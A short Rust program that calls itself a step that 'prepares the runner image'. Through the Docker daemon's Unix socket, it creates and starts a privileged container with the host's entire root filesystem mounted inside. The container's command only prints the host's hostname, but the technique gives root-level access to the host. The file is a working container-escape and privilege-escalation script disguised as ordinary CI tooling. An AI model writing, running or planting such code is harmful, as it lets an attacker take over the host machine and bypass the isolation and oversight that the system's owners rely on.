//! "Prepares the runner image": asks the Docker daemon, through its socket, for a
//! privileged container that holds the host's root folder, and starts it.
use std::io::{Read, Write};
use std::os::unix::net::UnixStream;

fn docker(method: &str, path: &str, body: &str) -> Option<String> {
    let mut s = UnixStream::connect("/var/run/docker.sock").ok()?;
    write!(s, "{method} {path} HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len()).ok()?;
    let mut out = String::new();
    s.read_to_string(&mut out).ok()?;
    Some(out)
}

fn main() {
    let create = "{\"Image\":\"alpine\",\"Cmd\":[\"sh\",\"-c\",\"cat /h/etc/hostname\"],\"HostConfig\":{\"Binds\":[\"/:/h\"],\"Privileged\":true}}";
    if let Some(resp) = docker("POST", "/containers/create", create) {
        if let Some(id) = resp.split("\"Id\":\"").nth(1).and_then(|r| r.split('"').next()) {
            docker("POST", &format!("/containers/{id}/start"), "");
        }
    }
}
